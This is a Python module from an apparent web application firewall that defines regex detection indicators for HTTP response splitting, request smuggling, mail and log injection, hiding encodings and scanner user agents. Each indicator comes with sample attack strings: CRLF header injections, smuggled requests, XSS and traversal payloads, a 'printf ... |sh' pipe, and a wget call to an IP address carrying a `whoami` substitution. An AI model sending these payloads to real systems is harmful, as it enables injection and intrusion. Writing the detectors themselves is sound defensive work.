"""Header splitting, smuggling, mail and log injection, encodings that hide, tools that scan."""

# ruff: noqa: E501  (a table: one row a line reads better than the rows broken)
from __future__ import annotations

from guard_wsgi.detection.indicators.indicator import (
    CERTAIN,
    DECISIVE,
    MEDIUM,
    STRONG,
    WEAK,
    Family,
)

_SPLIT = "CWE-113; RFC 9112 section 2.2"
_SMUGGLE = "RFC 9112 section 11.2; PortSwigger research: request smuggling"
_MAIL = "OWASP Testing Guide WSTG-INPV-10; CWE-93"
_LOG = "CWE-117; OWASP: Log Injection"
_HIDE = "CWE-177; Unicode TR36: overlong forms"

_LEVELS = r"\[(?:info|warn(?:ing)?|error|debug|critical|notice|alert|\d{4}-\d\d-\d\d)"
_LINE_BEGINS = tuple(
    start + what
    for start in (r"\n", r"\r", r"\\n", r"\\r")
    for what in (_LEVELS, r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3} +-")
)


_make = Family("protocol")

# fmt: off
PROTOCOL = (
    _make("http_split", "response_header", r"[\r\n][ \t\x0b\x0c]*(?:(?:set-cookie|content-(?:type|length|disposition|location|security-policy)|x-xss-protection|x-forwarded-\w+|access-control-[\w-]+|transfer-encoding|http/\d|last-modified|cache-control|etag|header\w*|injected?\w*)\s*[:=]|location\s*[:=]\s*(?:https?:|/))", _SPLIT, STRONG, examples=('a\rSet-Cookie:b=c',)),
    _make("http_split", "header_field", r"[\r\n][ \t\x0b\x0c]*(?:location|refresh|host|link|status|x-[a-z-]{2,24}|referer|cookie|user-agent|authorization|connection|expires)\s*[:=]", _SPLIT, examples=('\nX-Injected: yes',)),
    _make("http_split", "line_break_markup", r"[\r\n]{2}[ \t\x0b\x0c]*<(?:html|script|svg|!doctype|h1|img)", _SPLIT, examples=('html\r\n\r\n<html>hi</html>',)),
    _make("http_split", "line_and_field", r"^[^\s:]{0,24}(?:://[^\s]{1,200})?[\r\n]+[a-z][\w-]{1,30}:\s?\S", _SPLIT, MEDIUM, examples=('a\rSet-Cookie:b=c',)),
    _make("http_split", "header_name_any", r"(?:\r\n|\r|\n)[a-z][a-z0-9-]{2,30}\s*:\s?\S", _SPLIT, WEAK, examples=('a\rSet-Cookie:b=c',)),
    _make("http_split", "leading_field", r"^[\r\n]+[ \t]*(?:[a-z]+(?:-[a-z]+)+|host|cookie|location|referer|authorization)\s*:\s*\S", _SPLIT, CERTAIN, examples=('\nX-Injected: yes',)),
    _make("request_smuggling", "proxy_socket", r"\bunix:[^|\s]{4,}\|https?:", "CVE-2021-40438", STRONG, examples=('unix:AAAAAAAAA|http://coreruleset.org/',)),
    _make("http_split", "boundary_type", r";\s*boundary\s*=\s*['\"]?(?:application|text|multipart|image)/", "RFC 2046, 5.1.1: a boundary that passes for a media type", DECISIVE, examples=('application/x-www-form-urlencoded;boundary="text/xml"',)),
    _make("http_split", "odd_line_break", r"\xe5\x98\x8a|\xe5\x98\x8d|%e5%98%8[ad]|\xc4\x8a|\xc4\x8d|%u000[ad]|\\r\\n\s*[\w-]+\s*:|%0[ad]\s*[\w-]+(?::|%3a)|%23%0[ad]|%250[ad]", "CVE-2013-0247: unicode line ends cut to CR LF", MEDIUM, examples=('%u000aX-A:1',)),
    _make("request_smuggling", "request_line", r"(?:^|[\r\n\s=/a-z0-9])(?:get|post|put|delete|head|options|trace|connect|patch|propfind|debug|track|move|copy)\s+(?:/|https?://|\*)\S*\s+http/\d", _SMUGGLE, CERTAIN, examples=('\nPOST / HTTP/1.1',)),
    _make("request_smuggling", "response_line", r"\bhttp/[0-3](?:\.\d)?\s+\d{3}\b", _SMUGGLE, examples=('en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK',)),
    _make("request_smuggling", "chunk_end", r"(?:^|[\r\n])0\r?\n\r?\n(?:get|post|put|head|options|smuggled|g)\b|transfer-encoding\s*:\s*(?:x?chunked|identity|gzip)", _SMUGGLE, STRONG, examples=('test\r\nTransfer-Encoding: chunked',)),
    _make("mail_injection", "mail_header", r"(?:[\r\n]|%0[ad]|\\n|\\r)[ \t\x0b\x0c]*(?:b?cc|reply-to|mime-version|content-type|content-transfer-encoding|x-mailer|return-path|rcpt\s+to|mail\s+from|ehlo|helo)\s*[:<]", _MAIL, STRONG, examples=('\nReply-To: evil@e.example',)),
    _make("mail_injection", "mail_field", r"(?:[\r\n]|%0[ad]|\\n|\\r)[ \t\x0b\x0c]*(?:to|from|subject|date|sender|data)\s*[:<]", _MAIL, examples=('me@z.example\nSubject: Free',)),
    # A value for one line that continues with a header: after an address or a short word.
    _make("mail_injection", "mail_line", r"^[^\r\n]{0,60}[\r\n]+[ \t]*(?:b?cc|to|from|subject|reply-to|mime-version|content-type|x-[\w-]{2,24})\s*:", _MAIL, MEDIUM, examples=('\nX-Injected: yes',)),
    _make("mail_injection", "mail_command", r"(?:[\r\n]|^)[ \t\x0b\x0c]*(?:rcpt\s+to|mail\s+from)\s*:|[\r\n][ \t\x0b\x0c]*[a-z]{0,3}\d{1,4}\s+(?:capability|fetch|select|logout|login|create|delete|rename|list|lsub|append|expunge|examine|noop|store|search)\b|^[ \t\x0b\x0c]*[a-z]{0,3}\d{1,4}\s+(?:(?:capability|logout|expunge|noop)\s*(?:[\r\n]|$)|(?:fetch|store|search|select|examine|login|create|delete|rename|list|lsub|append)\s+[^\r\n]{1,80}[\r\n]+[ \t]*[a-z]{0,3}\d)|[\r\n][ \t\x0b\x0c]*(?:(?:ehlo|helo|vrfy|expn|rset|retr|dele|noop)\b|(?:quit|data|stat)[ \t]*(?:[\r\n]|$))|[\r\n]\.[\r\n]|\"[ \t\x0b\x0c]*[\r\n]\s*v\d+\s", _MAIL, STRONG, examples=('\r\nDATA',)),
    _make("log_injection", "log_line", r"[\r\n][ \t\x0b\x0c]*(?:\[?\d{4}-\d{2}-\d{2}|\[?(?:info|warn(?:ing)?|error|debug|critical|notice|alert)\]?\s*[:\[]|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\s+-)", _LOG, WEAK, prefilter=(*_LINE_BEGINS,), examples=("a\n[ERROR] [1] x", "a\r\n127.0.0.1 - admin")),
    _make("log_injection", "terminal_escape", r"\x1b\[[\d;]*[a-z]|\x1b\]|\\x1b\[|\\e\[|\\033\[|\[(?:31|32|33|0)m", "CWE-150", MEDIUM, examples=('\\n\\033[2wget http://135.23.158.130/.testing/term_escape.txt?vuln=2?user=\\`whoami\\`',)),
    _make("encoding", "overlong", r"[\xc0\xc1][\x80-\xbf]|\xe0[\x80-\x9f][\x80-\xbf]|%c0%[8-9ab]\w|%c1%[\w]{2}|%e0%80%|%f0%80%80|%f8%80|%fc%80", _HIDE, STRONG, examples=('%c0%ae%c0%ae/',)),
    _make("encoding", "percent_u", r"%u[0-9a-f]{4}", "IIS percent-u form", WEAK, examples=('%u000aX-A:1',)),
    _make("encoding", "double_percent", r"%25(?:[2-7][0-9a-f]|u[0-9a-f]{4}|25)|%%[2-7][0-9a-f]|%[2-7]%[2-7][0-9a-f]", "CWE-174", WEAK, examples=('..%%32%66boot.ini',)),
    _make("encoding", "escape_letter", r"(?:\\u00[2-7][0-9a-f]|\\x[2-7][0-9a-f]|\\u\{0*[2-7][0-9a-f]\}){2,}", "ECMAScript escapes of plain characters", WEAK, examples=(";printf '\\x69\\x64'|sh",)),
    _make("encoding", "octal_letters", r"(?:\\[01][0-7]{2}){3,}", "octal escapes", MEDIUM, examples=('\\074\\163\\143\\162',)),
    _make("encoding", "hex_pairs", r"(?:\\x[0-9a-f]{2}){3,}", "hexadecimal escapes", MEDIUM, examples=('"`\'><script>\\xE1\\x9A\\x80javascript:alert(1)</script>',)),
    _make("encoding", "entity_run", r"(?:&#(?:x[0-9a-f]{1,7}|\d{1,8});?\s*){3,}", "character references of whole words", MEDIUM, examples=("onload=prompt&#40;'&#88;&#83;&#83;'&#41;",)),
    _make("encoding", "fullwidth", r"(?:\xef\xbc[\x81-\xbf]|\xef\xbd[\x80-\x9e]){3,}", "Unicode NFKC", WEAK, examples=('\uff1c\uff53\uff43\uff52',)),
    _make("encoding", "control_inside", r"[a-z<=\"'/:(]\s?[\x00-\x08\x0b\x0c\x0e-\x1f][a-z<>=\"'/:()]", "WHATWG: ignored control characters", WEAK, examples=('passwd\x00index.html',)),
    _make("recon", "scanner_agent", r"\b(?:sqlmap|nikto|nessus|acunetix|netsparker|w3af|dirbuster|gobuster|wpscan|nuclei|zgrab|masscan|openvas|havij|arachni|jorgee|wfuzz|ffuf|feroxbuster|zmeu|morfeus|whatweb|skipfish|paros|vega/|commix|joomscan|xsser|fimap|hydra|brutus|jbrofuzz|grendel-scan|webinspect|appscan|qualys|detectify|zap/|owasp zap|burpsuite|burp suite|xspider|n-stealth|metis|bsqlbf|sqlninja|dirsearch|l9explore|leakix|cgichk|grabber|absinthe)\b", "CRS 913 family: names of tools", MEDIUM, examples=('@@new union#sqlmapsqlmapsqlmapsqlmapsqlmapsqlmapsqlmapsqlmapsqlmapsqlmapsqlmapsqlmapsqlmapsqlmapsqlmapsqlmapsql\nselect 1,2,database#sqlmap\n()',)),
    _make("recon", "scanner_token", r"\b(?:acunetix|appscan|w3af|nessus|netsparker|burp|arachni|sqlmap|nikto|skipfish|wvs)[-_]?(?:test|scan|probe|xss|header|cookie|product|file|\w*=|fuzz)|wvstest|x-scanner|acunetix_wvs|rfiinc\.txt|x-acunetix", "CRS 913 family", STRONG, examples=('acunetix_wvs_test',)),
    _make("http_split", "header_charset", r"charset\s*=\s*['\"]?(?:utf-7|ibm\d+|cp\d{3}\b|utf-?32)", "CRS 920 family: charsets that hide", MEDIUM, examples=('<meta charset="UTF-7" />  ADw-script AD4-alert(1) ADw-/script AD4-</a>',)),
    _make("http_split", "cookie_version", r"\$version\s*=\s*['\"]?\d.*;", "RFC 2109 legacy cookies, PortSwigger: bypassing WAFs with $Version", WEAK, examples=('$Version=1; a="b"',)),
    _make("http_split", "range_abuse", r"\bbytes\s*=\s*(?:\d*-\d*\s*,\s*){5,}|\bbytes=0-18446744073709551615", "CVE-2011-3192, CVE-2015-1635", STRONG, examples=('bytes=0-,1-,2-,3-,4-,5-,6-',)),
    _make("http_split", "status_line", r"^[^\r\n]{0,60}[\r\n]+http/[0-3](?:\.\d)?\s+\d{3}\b", _SPLIT, CERTAIN, examples=("a\r\nHTTP/1.1 200 OK",)),
)
